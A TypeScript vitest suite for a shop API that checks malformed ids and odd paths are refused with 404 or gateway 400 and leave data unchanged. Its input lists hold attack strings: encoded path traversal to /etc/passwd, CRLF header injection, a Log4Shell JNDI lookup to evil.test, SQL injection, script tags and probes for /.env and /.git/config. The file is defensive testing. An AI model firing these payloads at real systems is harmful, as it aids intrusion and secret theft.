import { describe, it } from 'vitest';
import { fresh } from '../../journeys/caller.ts';
import { expectGateway, expectProblem } from '../refusals.ts';
import { sent, validRequest } from '../requests.ts';
import { nameOf, routes } from '../routes.ts';
import { type The, welcome } from '../world.ts';

/** What stands in the path where an id should: one that is none, however it is read. */
const IDS = [
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252f',
  '..%5c..%5cetc',
  '..%2f',
  '%2f',
  '%2f%2fevil.test',
  '%5c',
  'a%00',
  '%00',
  'a%00.json',
  'a%0a',
  'a%0d%0ax-evil:%201',
  'a%2500',
  'a%252fb',
  'a%20b',
  '%20',
  '+',
  'a%3fb',
  'a%23b',
  'a;b',
  'a,b',
  'a:b',
  '*',
  '%25',
  '%7b%7d',
  '%7bid%7d',
  '$%7bjndi:ldap:%2f%2fevil.test%7d',
  "'%20OR%20'1'='1",
  '%3cscript%3e',
  '%e2%80%ae',
  '%c3%a9',
  '%ef%bc%8e%ef%bc%8e%ef%bc%8f',
  'x'.repeat(65),
  'x'.repeat(8_000),
];

/** No path at all: API Gateway, and nothing behind it, says so. */
const UNREADABLE = ['%', '%2', '%zz', '%c0%ae%c0%ae', '%ff', '%ed%a0%80', '%E0%A4%A'];

const named = routes.filter(({ path }) => path.includes('{')).map((route) => ({ name: nameOf(route), route }));

/** Targets that lead nowhere, whatever a file system would make of them. */
const NOWHERE = [
  '/',
  '//',
  '/v1',
  '/v1/',
  '//v1/products',
  '/v1//products',
  '/v1/products/',
  '/v1/./products',
  '/v1/x/../products',
  '/V1/PRODUCTS',
  '/v1/products%2f',
  '/v1%2fproducts%2f',
  '/v1/products%00',
  '/v1/products%0a',
  '/v1/products.json',
  '/v1/products;x',
  '/../../etc/passwd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/..%5c..%5c',
  '/v2/products',
  '/$default',
  '/%24default',
  '/prod/v1/products',
  '/.env',
  '/.git/config',
  '/system.json',
  '/metrics',
  '/2015-03-31/functions/x/invocations',
  '/__proto__',
  '/constructor',
  '/v1/__proto__',
  '/v1/toString',
];

export const paths = (the: The) => {
  describe('17: paths', () => {
    it.each(named)('$name: an id that is none', async ({ route }) => {
      const { shop } = the();
      const { params: _, query: __, ...asked } = await validRequest(route, shop);
      const token = welcome(route, the());
      const request = (id: string) => ({ ...sent(route, asked), token, path: route.path.replace(/\{\w+\}/, id) });
      await shop.unchangedBy(async () => {
        for (const id of IDS) {
          const wanted = { status: 404, code: 'not_found' };
          expectProblem(shop, await shop.ask(request(id)), wanted, id.slice(0, 60));
        }
        for (const id of UNREADABLE) expectGateway(shop, await shop.ask(request(id)), 400, id);
      });
    });

    it.each(['.', '..', '%2e', '%2e%2e', '.%2e'])('dots alone, %s, are no SKU', async (sku) => {
      const { shop, tokens } = the();
      await shop.unchangedBy(async () => {
        const json = { name: 'Dots', price: { amount: 1, currency: 'GBP' } };
        const answer = await shop.ask({ method: 'PUT', path: `/v1/products/${sku}`, token: tokens.erp, json });
        expectProblem(shop, answer, { status: 404, code: 'not_found' }, sku);
      });
    });

    it('an id of one kind is none of another', async () => {
      const { shop, tokens, order, paid } = the();
      const elsewhere = [
        { path: `/v1/orders/${paid.payment.id}` },
        { path: `/v1/orders/${order.id.replace('ord_', 'rec_')}` },
        { path: `/v1/reconciliations/${order.id}` },
        { path: `/v1/me/exports/${order.id.replace('ord_', 'rec_')}` },
        { path: `/v1/me/exports/${order.id}/items` },
        { method: 'POST', path: `/v1/payments/${order.id}/refunds`, key: fresh('key'), json: { reason: 'x' } },
        { method: 'POST', path: `/v1/discrepancies/${order.id}/repairs`, key: fresh('key'), json: {} },
      ];
      await shop.unchangedBy(async () => {
        for (const request of elsewhere) {
          const answer = await shop.ask({ ...request, token: tokens.root });
          expectProblem(shop, answer, { status: 404, code: 'not_found' }, request.path);
        }
      });
    });

    it.each(NOWHERE)('%s leads nowhere', async (path) => {
      const { shop, tokens } = the();
      for (const token of [undefined, tokens.root]) {
        expectProblem(shop, await shop.ask({ path, token }), { status: 404, code: 'not_found' }, path);
      }
    });
  });
};
